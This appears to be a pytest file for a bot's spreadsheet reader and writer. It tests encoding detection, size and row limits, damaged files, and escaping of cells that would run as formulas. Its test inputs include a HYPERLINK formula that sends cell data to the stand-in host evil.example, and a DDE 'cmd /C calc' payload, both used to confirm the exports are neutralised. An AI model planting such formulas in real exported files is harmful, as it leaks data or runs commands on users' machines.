"""Reading and writing spreadsheets: encodings, limits, and cells a spreadsheet would run as formulas."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from bot.spreadsheets import FileMissingError, SpreadsheetError, export_cell, limits, read_table, write_csv, write_table

INJECTION = '=HYPERLINK("http://evil.example/?"&B2,"详情")'


def write_xlsx(path: Path, rows: list[list[object]]) -> Path:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    workbook.save(path)
    return path


@pytest.mark.parametrize("text", [INJECTION, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_export_cell_quotes_text_that_starts_a_formula(text: str) -> None:
    assert export_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["+8613800000001", "-5", "12.50", "张阿婆", "1-01", 42, 3.5, None])
def test_export_cell_keeps_phones_numbers_and_plain_text(value: object) -> None:
    assert export_cell(value) == value


def test_csv_export_neutralises_formulas_and_keeps_phones(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"

    write_table(path, [["text", "phone"], [INJECTION, "+8613800000001"]])

    rows = list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines()))
    assert rows[1] == ["'" + INJECTION, "+8613800000001"]


def test_csv_to_a_stream_neutralises_formulas() -> None:
    stream = io.StringIO()

    write_csv(stream, [["@SUM(A1)", "ok"]])

    assert stream.getvalue() == "'@SUM(A1),ok\r\n"


def test_xlsx_export_writes_formulas_as_text_and_phones_as_text(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"

    write_table(path, [["text", "phone", "count"], [INJECTION, "+8613800000001", 3], ["bell\x07", "", ""]])

    sheet = load_workbook(path).worksheets[0]
    assert (sheet["A2"].data_type, sheet["A2"].value) == ("s", "'" + INJECTION)
    assert (sheet["B2"].data_type, sheet["B2"].value) == ("s", "+8613800000001")
    assert sheet["C2"].value == 3
    assert sheet["A3"].value == "bell"  # a control character XML cannot hold is dropped, not a crash


def test_big5_csv_is_read_as_big5_not_as_garbled_gb18030(tmp_path: Path) -> None:
    rows = [["村", "姓名", "户号"], ["FX01", "張阿婆", "1-01"], ["FX01", "陳國強", "1-02"]]
    text = "\n".join(",".join(r) for r in rows).replace("户号", "戶號")
    path = tmp_path / "big5.csv"
    path.write_bytes(text.encode("big5"))

    table = read_table(path)

    assert table[1:] == [["FX01", "張阿婆", "1-01"], ["FX01", "陳國強", "1-02"]]


def test_gb18030_csv_is_still_read_as_gb18030(tmp_path: Path) -> None:
    path = tmp_path / "gbk.csv"
    path.write_bytes("村,姓名\nFX01,张阿婆\nFX01,赵阿姨\n".encode("gb18030"))

    assert read_table(path)[1:] == [["FX01", "张阿婆"], ["FX01", "赵阿姨"]]


def test_csv_in_no_known_encoding_is_refused_naming_the_row(tmp_path: Path) -> None:
    path = tmp_path / "bad.csv"
    path.write_bytes("村,姓名\nFX01,张阿婆\n".encode("gb18030") + b"FX01,\xff\xfe\xff\xfe\n")

    with pytest.raises(SpreadsheetError) as caught:
        read_table(path)

    assert caught.value.text.kwargs()["row"] == 3


def test_csv_cell_past_the_csv_modules_limit_is_refused_naming_the_row(tmp_path: Path) -> None:
    path = tmp_path / "huge.csv"
    path.write_text("village,name\nFX01,张阿婆\nFX01," + "x" * 140_000 + "\n", encoding="utf-8")

    with pytest.raises(SpreadsheetError) as caught:
        read_table(path)

    assert caught.value.text.kwargs()["row"] == 3


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_cell_over_the_limit_is_refused_naming_the_row(tmp_path: Path, suffix: str) -> None:
    rows: list[list[object]] = [["village", "name"], ["FX01", "x" * (limits.MAX_CELL_CHARS + 1)]]
    path = tmp_path / f"long{suffix}"
    write_xlsx(path, rows) if suffix == ".xlsx" else path.write_text(
        "\n".join(",".join(map(str, r)) for r in rows), encoding="utf-8")

    with pytest.raises(SpreadsheetError) as caught:
        read_table(path)

    assert caught.value.text.msgid.startswith("{name}: row {row} has a cell longer")
    assert caught.value.text.kwargs()["row"] == 2


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_rows_over_the_limit_are_refused(tmp_path: Path, suffix: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "MAX_ROWS", 10)
    path = tmp_path / f"many{suffix}"
    rows: list[list[object]] = [["village", "name"], *(["FX01", f"村民{i}"] for i in range(11))]
    write_table(path, rows)

    with pytest.raises(SpreadsheetError) as caught:
        read_table(path)

    assert caught.value.text.kwargs()["limit"] == 10


def test_xlsx_that_unpacks_past_the_limit_is_refused_before_openpyxl(tmp_path: Path,
                                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    path = write_xlsx(tmp_path / "bomb.xlsx", [["name"], *([f"{'重复' * 500}{i}"] for i in range(200))])
    assert path.stat().st_size < 200_000
    monkeypatch.setattr(limits, "MAX_UNPACKED_BYTES", 200_000)
    monkeypatch.setattr("bot.spreadsheets.reading.load_workbook", pytest.fail)  # never opened

    with pytest.raises(SpreadsheetError) as caught:
        read_table(path)

    assert caught.value.text.msgid.startswith("{name} is too large")


def test_xlsx_rows_come_without_trailing_padding(tmp_path: Path) -> None:
    path = write_xlsx(tmp_path / "t.xlsx", [["village", "name", None, "phone"], ["FX01", "张阿婆"],
                                           ["FX01", "王大伯", None, 13800000003]])

    assert read_table(path) == [["village", "name", "", "phone"], ["FX01", "张阿婆"],
                                ["FX01", "王大伯", "", "13800000003"]]


def test_a_damaged_xlsx_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "broken.xlsx"
    path.write_bytes(b"PK\x03\x04 not really a zip")

    with pytest.raises(SpreadsheetError) as caught:
        read_table(path)

    assert caught.value.text.msgid.startswith("{name} is not a readable XLSX file")


def test_a_missing_file_is_its_own_error(tmp_path: Path) -> None:
    with pytest.raises(FileMissingError):
        read_table(tmp_path / "nowhere.csv")


def test_rows_up_to_the_limit_are_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "MAX_ROWS", 10)
    path = tmp_path / "full.xlsx"
    write_table(path, [["village", "name"], *(["FX01", f"村民{i}"] for i in range(10))])

    assert len(read_table(path)) == 11


@pytest.mark.parametrize(("encoding", "name"), [("gb18030", "张阿婆"), ("gb18030", "龚"), ("big5", "陳國強"),
                                                ("big5", "張阿婆")])
def test_a_one_name_csv_is_read_in_its_own_encoding(tmp_path: Path, encoding: str, name: str) -> None:
    path = tmp_path / "one.csv"
    path.write_bytes(f"village,name\nFX01,{name}\n".encode(encoding))

    assert read_table(path)[1] == ["FX01", name]


def test_a_sheet_that_starts_below_and_right_of_a1_keeps_its_row_numbers(tmp_path: Path) -> None:
    path = write_xlsx(tmp_path / "offset.xlsx", [[], [None, "village", "name"], [None, "FX01", "张阿婆"],
                                                [None, "FX01", 13800000003.0]])

    assert read_table(path) == [[], ["", "village", "name"], ["", "FX01", "张阿婆"], ["", "FX01", "13800000003"]]


def test_a_sheet_past_the_row_limit_is_refused_before_its_rows_are_read(tmp_path: Path,
                                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    path = write_xlsx(tmp_path / "many.xlsx", [["village", "name"], *(["FX01", f"村民{i}"] for i in range(11))])
    monkeypatch.setattr("bot.spreadsheets.reading._cell_text", pytest.fail)  # the sheet's height says it all

    with pytest.raises(SpreadsheetError) as caught:
        read_table(path, limits.Caps(rows=10, csv_bytes=1024, unpacked_bytes=1024 * 1024))

    assert caught.value.text.kwargs()["limit"] == 10
